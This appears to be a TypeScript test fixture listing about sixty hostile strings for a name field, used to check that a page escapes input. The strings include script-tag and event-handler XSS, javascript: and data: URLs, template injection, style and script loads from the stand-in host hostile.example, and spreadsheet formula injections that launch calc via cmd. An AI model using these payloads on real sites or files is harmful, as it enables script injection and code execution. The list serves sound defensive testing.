// Sixty things that somebody may write where a name belongs, each of which would run, fetch or
// pretend something in a page that believes what it is told. What would run adds to
// `globalThis.executed` or asks hostile.example for something.

const run = 'globalThis.executed=1';

/**
 * Words that would be executed by a page that takes them for markup, an address, a template or a
 * formula.
 */
export const hostileWords: readonly string[] = [
  // Scripts in elements.
  `<script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</title></style></script><script>${run}</script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<SCRIPT SRC=//hostile.example/a.js></SCRIPT>`,
  `<script\u0020type="module">import "//hostile.example/m.js"</script>`,
  `<script>/*`,
  `--><script>${run}</script><!--`,
  `]]><script>${run}</script>`,
  // Handlers of events.
  `<img src=x onerror=${run}>`,
  `<img src="x" onerror="${run}">`,
  `"><img src=x onerror=${run}>`,
  `<img/src=x/onerror=${run}//`,
  `<body onload=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<marquee onstart=${run}>`,
  `<div style="animation:a 1s" onanimationstart=${run}>`,
  `" onmouseover="${run}" x="`,
  `' onfocus='${run}' autofocus='`,
  `\`onclick=${run}`,
  // Drawings and other documents.
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<svg><foreignObject><iframe src="javascript:parent.${run}"></iframe></foreignObject></svg>`,
  `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.${run}</script>"></object>`,
  `<embed src="//hostile.example/e">`,
  `<base href="//hostile.example/">`,
  `<link rel=stylesheet href=//hostile.example/s.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<form action=javascript:${run}><button>Save</button></form>`,
  `<template><img src=x onerror=${run}></template>`,
  // Addresses.
  `javascript:${run}`,
  `JaVaScRiPt:${run}//`,
  `java\tscript:${run}`,
  `&#106;avascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:${run}`,
  `<a href="javascript:${run}">Mrs Khan</a>`,
  // Templates, entities and styles.
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `<style>*{background:url(//hostile.example/c)}</style>`,
  `<div style="background:url(//hostile.example/d)">`,
  // Formulas.
  `=HYPERLINK("//hostile.example","Mrs Khan")`,
  `+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  // Letters that turn, vanish or never end, and names of the program's own objects.
  `\u202Enahk srm\u202C <img src=x onerror=${run}>`,
  `Mrs\u0000Khan<script\u0000>${run}</script>`,
  `__proto__`,
  `${'<b>'.repeat(60)}<img src=x onerror=${run}>`,
];
